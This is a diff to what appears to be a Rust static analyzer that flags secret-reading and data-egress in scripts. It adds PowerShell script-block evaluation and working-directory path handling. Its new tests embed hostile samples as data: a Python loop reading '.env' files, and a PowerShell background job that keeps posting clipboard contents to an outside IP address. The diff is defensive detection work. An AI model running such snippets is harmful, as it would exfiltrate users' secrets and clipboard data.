@@ -1021,6 +1021,16 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 });
                 (v, (close + 1).min(t.len()))
             }
+            // A PowerShell script block (`$job = { … }`, `-ScriptBlock { … }`): what it
+            // does is read where it is written, since whoever receives it runs it.
+            Tok::Punct("{") if self.lang == Lang::PowerShell && !(i > 0 && punct(t.get(i - 1), "@")) => {
+                let close = close_of(t, i);
+                let inner = &t[(i + 1).min(t.len())..close.min(t.len())];
+                self.statements(inner);
+                let mut v = Val::unknown("{…}");
+                v.name = Some("scriptblock-literal".into());
+                (v, (close + 1).min(t.len()))
+            }
             Tok::Punct("{") => {
                 let close = close_of(t, i);
                 let items = self.items(t, i + 1, close);
@@ -2405,6 +2415,12 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
             }
             "os.homedir" | "os.path.expanduser.home" | "pathlib.path.home" | "path.home" | "os.userinfo" => {
                 let mut v = Val::text("~");
+                v.name = Some("path".into());
+                return v;
+            }
+            // The working directory: the project the skill was started in.
+            "os.getcwd" | "pathlib.path.cwd" | "path.cwd" | "process.cwd" | "deno.cwd" | "get-location" | "pwd" => {
+                let mut v = Val::text(".");
                 v.name = Some("path".into());
                 return v;
             }
@@ -3799,6 +3815,25 @@ mod tests {
             Lang::PowerShell,
             "secret-read/env-dump"
         ));
+    }
+
+    #[test]
+    fn the_working_directory_is_a_path_and_a_script_block_is_read_where_it_is_written() {
+        let t = tags(
+            "from pathlib import Path\nfor p in Path.cwd().glob('.env*'):\n    data = p.read_text()\n",
+            Lang::Python,
+        );
+        assert!(t.iter().any(|t| t.starts_with("secret-read")), "{t:?}");
+        let t = tags(
+            "$sync = {\n  while ($true) {\n    $c = Get-Clipboard -Raw\n    Invoke-RestMethod -Uri 'https://203.0.113.45/s' -Method Post `\n      -Body $c\n  }\n}\nStart-Job -ScriptBlock $sync",
+            Lang::PowerShell,
+        );
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let t = tags(
+            "$h = @{ Authorization = 'x' }\nInvoke-RestMethod -Uri https://api.example/x -Headers $h",
+            Lang::PowerShell,
+        );
+        assert!(!t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
     }
 
     #[test]
